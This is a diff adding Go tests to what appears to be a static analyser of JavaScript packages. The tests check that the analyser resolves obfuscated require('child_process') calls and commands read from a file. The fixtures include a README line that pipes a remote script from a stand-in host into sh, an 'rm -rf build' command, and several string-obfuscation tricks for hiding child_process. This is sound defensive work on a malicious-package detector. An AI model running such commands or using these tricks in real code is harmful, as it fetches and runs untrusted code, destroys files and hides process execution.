@@ -48,6 +48,16 @@ func TestFolding(t *testing.T) {
 		{"join", `require(['child','process'].join('_'))`, "child_process"},
 		{"reverse", `require('ssecorp_dlihc'.split('').reverse().join(''))`, "child_process"},
 		{"const", `const a = 'child_'; const b = a + 'process'; require(b)`, "child_process"},
+		// pieces cut out of a string, with JavaScript's bounds
+		{"slice", `require('xxchild_processyy'.slice(2, -2))`, "child_process"},
+		{"substring_swapped", `require('xxchild_processyy'.substring(15, 2))`, "child_process"},
+		{"substr", `require('__child_process__'.substr(-15, 13))`, "child_process"},
+		{"char_at", `require('c'.charAt(0) + 'hild_process'.at(0) + 'ild_process'.slice(-11))`, "child_process"},
+		{"split_pop", `require('a,b,child_process'.split(',').pop())`, "child_process"},
+		{"split_shift", `require('child_process;x;y'.split(';').shift())`, "child_process"},
+		{"split_index", `require('x child_process y'.split(' ')[1])`, "child_process"},
+		{"split_at", `require('x child_process y'.split(' ').at(-2))`, "child_process"},
+		{"string_index", `const n = 'child_process'; require(n[0] + n.slice(1))`, "child_process"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -355,6 +365,28 @@ func TestReadFileConstants(t *testing.T) {
 	f := Analyze("index.js", []byte(`const m = require(require("fs").readFileSync("mod.txt", "utf8")); m.exec("id")`), lim)
 	if !hasImport(f, "child_process") || hasCall(f, "child_process.exec") == nil {
 		t.Errorf("module named in a file: %+v %+v", f.Imports, f.Calls)
+	}
+
+	// A line of a document the code reads is what it runs; the document
+	// itself is marked as such, not as a command it carries.
+	files["README.md"] = "# tool\n\nInstall:\n\n    curl -fsSL https://x.example.invalid/i.sh | sh\n\nrm -rf build"
+	f = Analyze("index.js", []byte(`const lines = require("fs").readFileSync("README.md", "utf8").split("\n"); require("child_process").execSync(lines.pop())`), lim)
+	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "rm -rf build" {
+		t.Errorf("last line of a read file as a command: %+v", c)
+	}
+	whole := false
+	for _, s := range f.Strings {
+		if strings.HasPrefix(s.Value, "# tool") {
+			whole = s.FromFile
+		}
+	}
+	if !whole {
+		t.Errorf("the README's text is not marked FromFile: %+v", f.Strings)
+	}
+	// an array used twice may have changed: pop does not fold
+	f = Analyze("index.js", []byte(`const lines = require("fs").readFileSync("README.md", "utf8").split("\n"); lines.pop(); require("child_process").execSync(lines.pop())`), lim)
+	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Known {
+		t.Errorf("pop of an array used twice folded: %+v", c)
 	}
 }
 
